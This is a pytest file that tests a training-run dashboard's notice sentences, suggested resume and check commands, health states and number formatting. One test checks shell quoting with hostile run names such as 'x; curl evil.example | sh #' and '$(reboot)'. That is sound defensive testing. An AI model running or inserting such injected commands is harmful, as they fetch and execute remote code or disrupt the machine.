"""What a run view says: a sentence for every state, numbers dressed but never computed."""

import subprocess
from typing import Any

import pytest

from run.javascript import JavaScript

NOTICE = """
const run = Object.assign(emptyRun(), input.run);
const view = { source: { kind: "live", name: "r" }, stream: "live", health: "running",
               runner: "live", problem: "", ...input.view };
return makeNotice({ ...view, run });
"""
BEGUN = {"events": 5, "status": "running", "run": "r", "step": 7}


def notice(
    js: JavaScript, view: dict[str, Any], run: dict[str, Any] | None = None
) -> dict[str, Any]:
    said: dict[str, Any] = js(NOTICE, {"view": view, "run": {**BEGUN, **(run or {})}})
    return said


NOTHING = {"kind": "none", "name": ""}


@pytest.mark.parametrize(
    ("view", "run", "title", "part"),
    [
        ({"source": NOTHING, "runner": "absent"}, {}, "No runner", "not connected to a runner"),
        ({"source": NOTHING, "runner": "live"}, {}, "No run yet", "Start one"),
        (
            {"source": NOTHING, "started": {"name": "demo", "alive": True, "run": None}},
            {},
            "Starting",
            "with its first event",
        ),
        ({"source": NOTHING, "runner": "connecting"}, {}, "Connecting", "Asking"),
        ({"source": NOTHING, "runner": "gone"}, {}, "Server gone", "Start it again"),
        ({"source": NOTHING, "runner": "refused"}, {}, "Access denied", "new token"),
        (
            {"source": NOTHING, "runner": "keyless"},
            {},
            "No token in this address",
            "that the server",
        ),
        ({"reading": True}, {}, "Reading", "Reading the log"),
        ({"reading": True, "health": "gone"}, {}, "Reading", "Reading the log"),
        ({"readPercent": 19}, {}, "Behind", "has read 19% of the log, up to step 7"),
        ({"readPercent": 19, "health": "stalled"}, {}, "Behind", "the run itself is further"),
        ({"readPercent": 19, "stream": "gone"}, {}, "Server gone", "Training continues"),
        ({"reading": True, "stream": "gone"}, {}, "Server gone", "Training continues without it"),
        ({"stream": "connecting"}, {"events": 0}, "Connecting", "this run"),
        ({"stream": "refused"}, {}, "Access denied", "Open the address"),
        ({"stream": "missing"}, {}, "Run removed", "no run r"),
        ({"stream": "gone"}, {}, "Server gone", "Training continues without it"),
        ({"stream": "back"}, {}, "Back", "Nothing was missed"),
        ({"stream": "back", "health": "gone"}, {}, "Trainer gone", "ended after step 7"),
        ({"health": "stalled"}, {"beat": {"expectNextIn": 10}}, "Stalled", "every 10 s"),
        ({"health": "paused"}, {}, "Paused", "is paused after step 7"),
        ({}, {"plan": {"steps": 40}}, "Live", "Step 7 of 40"),
        (
            {},
            {"beat": {"expectNextIn": 10, "doing": "evaluating", "done": 0.4}},
            "Live",
            "Step 7. Evaluating, 40%. Events",
        ),
        ({}, {"beat": {"expectNextIn": 10, "doing": ""}}, "Live", "Step 7. Events appear"),
        ({}, {"nonFinite": 5}, "Diverging", "since step 5"),
        ({"stream": "unreadable", "problem": "x holds no event"}, {}, "Not readable", "x holds no"),
        (
            {"source": {"kind": "file", "name": "f"}, "stream": "over"},
            {},
            "Unfinished log",
            "step 7",
        ),
        (
            {"source": {"kind": "file", "name": "f"}, "stream": "loading"},
            {},
            "Reading",
            "Reading f",
        ),
    ],
)
def test_every_state_has_its_sentence(
    js: JavaScript, view: dict[str, Any], run: dict[str, Any], title: str, part: str
) -> None:
    said = notice(js, view, run)
    assert said["title"] == title
    assert part in said["text"]


@pytest.mark.parametrize(
    ("status", "non_finite", "title"),
    [
        ("finished", None, "Finished"),
        ("stopped", None, "Stopped"),
        ("failed", None, "Failed"),
        ("oom", None, "Out of memory"),
        ("failed", 3, "Diverged"),
    ],
)
def test_every_end_has_its_sentence_and_the_trainers_reason(
    js: JavaScript, status: str, non_finite: int | None, title: str
) -> None:
    end = {"reason": "the disk is full", "time": 0, "summary": {}}
    said = notice(js, {"health": "ended"}, {"status": status, "end": end, "nonFinite": non_finite})
    assert said["title"] == title
    assert status == "finished" or "The disk is full." in said["text"]


SAVED = {"checkpoint": {"step": 5, "path": "p", "bytes": 1}}


def test_a_killed_trainer_with_a_checkpoint_gets_the_command_to_go_on(js: JavaScript) -> None:
    assert notice(js, {"health": "gone"}, SAVED)["commands"] == ["unfrozen resume r"]
    assert notice(js, {"health": "gone"})["commands"] == []


@pytest.mark.parametrize(
    ("name", "word"),
    [
        ("20261126-091203-7f3c", "20261126-091203-7f3c"),
        ("x; curl evil.example | sh #", "'x; curl evil.example | sh #'"),
        ("$(reboot)", "'$(reboot)'"),
        ("it's `here`", "'it'\\''s `here`'"),
        ("--help", "-- --help"),
        ("a b\nc", r"$'a b\U0000000ac'"),
        ("", "''"),
    ],
)
def test_a_name_in_a_command_to_copy_is_one_word_of_the_shell(
    js: JavaScript, name: str, word: str
) -> None:
    (command,) = notice(js, {"health": "gone"}, SAVED | {"run": name})["commands"]
    assert command == f"unfrozen resume {word}"
    words = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {command}"], capture_output=True, check=True
    )
    assert words.stdout.decode().split("\0")[2:-1] in ([name], ["--", name])


@pytest.mark.parametrize(
    ("status", "helps"),
    [
        ("stopped", []),
        ("failed", ["unfrozen check r"]),
        ("oom", ["unfrozen check r"]),
        ("finished", []),
    ],
)
def test_a_run_that_ended_early_here_gets_the_commands_that_help(
    js: JavaScript, status: str, helps: list[str]
) -> None:
    end = {"status": status, "end": {"reason": "", "time": 0, "summary": {}}}
    resume = [] if status == "finished" else ["unfrozen resume r"]
    assert notice(js, {}, end)["commands"] == helps
    assert notice(js, {}, end | SAVED)["commands"] == helps + resume
    file = {"source": {"kind": "file", "name": "f"}}
    assert notice(js, file, end | SAVED)["commands"] == []  # it ended elsewhere
    several = end | SAVED | {"start": {"hardware": {"processes": 2}}}
    typed = notice(js, {}, several)["commands"]
    assert [one for one in typed if "torchrun --nproc-per-node 2 -m gpu_runner resume" in one] == (
        typed[len(helps) :]
    )


def test_a_diverged_run_is_checked_and_not_resumed(js: JavaScript) -> None:
    end = {"status": "failed", "end": {"reason": "", "time": 0, "summary": {}}}
    assert notice(js, {}, end | SAVED | {"nonFinite": 3})["commands"] == ["unfrozen check r"]
    end["end"] = {"reason": "it diverged", "time": 0, "summary": {}}
    assert notice(js, {}, end | SAVED)["commands"] == ["unfrozen check r"]


@pytest.mark.parametrize("health", ["gone", "ended"])
def test_a_watched_run_that_ended_early_is_told_how_its_own_trainer_goes_on(
    js: JavaScript, health: str
) -> None:
    run: dict[str, Any] = {"start": {"trainer": "transformers Trainer 5"}}
    if health == "ended":
        run |= {"status": "stopped", "end": {"reason": "", "time": 0, "summary": {}}}
    said = notice(js, {"health": health}, run)
    assert said["text"].endswith("To go on, start its trainer (transformers Trainer 5) again.")
    said = notice(js, {"health": health}, run | SAVED)
    assert said["text"].endswith("(transformers Trainer 5) again from p.")
    assert said["commands"] == []  # `unfrozen resume` cannot resume it


@pytest.mark.parametrize(
    ("run", "writer", "now", "health"),
    [
        ({}, "unknown", 0, "waiting"),
        ({"events": 1, "lastTime": 100}, "yes", 189, "running"),
        ({"events": 1, "lastTime": 100}, "yes", 191, "stalled"),
        ({"events": 1, "lastTime": 100, "beat": {"expectNextIn": 5}}, "unknown", 116, "stalled"),
        ({"events": 1, "lastTime": 100, "beat": {"paused": True}}, "yes", 189, "paused"),
        ({"events": 1, "lastTime": 100, "beat": {"paused": True}}, "yes", 191, "stalled"),
        ({"events": 1, "lastTime": 100, "beat": {"paused": True}}, "no", 101, "gone"),
        ({"events": 1, "lastTime": 100}, "no", 101, "gone"),
        ({"events": 1, "lastTime": 100, "end": {}}, "no", 999, "ended"),
    ],
)
def test_a_trainer_is_judged_by_its_own_promise(
    js: JavaScript, run: dict[str, Any], writer: str, now: float, health: str
) -> None:
    body = "return judgeHealth(Object.assign(emptyRun(), input.run), input.writer, input.now);"
    assert js(body, {"run": run, "writer": writer, "now": now}) == health


@pytest.mark.parametrize(
    ("call", "text"),
    [
        ("formatBytes(1024 ** 3 * 1.5)", "1.5 GiB"),
        ("formatBytes(537395200)", "513 MiB"),
        ("formatBytes(12)", "12 bytes"),
        ("formatBytes(NaN)", "–"),
        ("formatCount(134515008)", "135 million"),
        ("formatCount(1836288)", "1.84 million"),
        ("formatCount(1200)", "1200"),
        ("formatLoss(-0.4)", "−0.400"),
        ("formatLoss(NaN)", "NaN"),
        ("formatLoss(Infinity)", "∞"),
        ("formatDelta(0.0312)", "+0.031"),
        ("formatDelta(-1.8)", "−1.800"),
        ("formatMetric(5233.2, 'tokens/second')", "5233 tokens/s"),
        ("formatMetric(0.1824, 'seconds')", "0.182 s"),
        ("formatMetric(0.0002, '1')", "0.0002"),
        ("formatMetric(0.00002, '1')", "2e-5"),
    ],
)
def test_numbers_are_dressed_for_reading(js: JavaScript, call: str, text: str) -> None:
    said = js(f"return numbers.{call};")
    assert said.replace("\u00a0", " ") == text


def test_lines_with_steps_of_their_own_meet_on_one_axis(js: JavaScript) -> None:
    lines = [{"x": [1, 2, 3, 4], "y": [5, 6, "NaN", 8]}, {"x": [0, 2, 9], "y": [1, 2, 3]}]
    body = """
    input[0].y = input[0].y.map(Number);
    return alignedData(input).map((c) => c.map((v) => (v === undefined ? "-" : v)));
    """
    assert js(body, lines) == [
        [0, 1, 2, 3, 4, 9],
        ["-", 5, 6, None, 8, "-"],
        [1, "-", 2, "-", "-", 3],
    ]


@pytest.mark.parametrize(
    ("values", "places"),
    [
        ([3], [0]),
        (["-", 3, "-"], [1]),
        ([3, "-", 4], []),
        ([3, None, 4, 5, None, "-", 6], [0, 6]),
        ([None, None], []),
        ([], []),
    ],
)
def test_a_point_without_a_neighbour_needs_a_dot(
    js: JavaScript, values: list[object], places: list[int]
) -> None:
    body = "return lonePoints(input.map((v) => (v === '-' ? undefined : v)));"
    assert js(body, values) == places


@pytest.mark.parametrize(
    ("status", "reason", "title", "text"),
    [
        ("finished", "", "Finished", "7 steps, as logged by T."),
        ("stopped", "nobody knows", "Imported", "7 steps, as logged by T. Nobody knows."),
        ("failed", "code 3", "Failed", "7 steps, as logged by T. Code 3."),
    ],
)
def test_an_imported_run_says_how_it_ended_as_far_as_its_tool_does_and_no_day(
    js: JavaScript, status: str, reason: str, title: str, text: str
) -> None:
    run = {"status": status, "end": {"reason": reason, "time": 5.0}}
    said = notice(js, {"stream": "over"}, {**run, "start": {"source": "imported", "tool": "T"}})
    assert (said["title"], said["text"]) == (title, text)
    assert said["commands"] == []
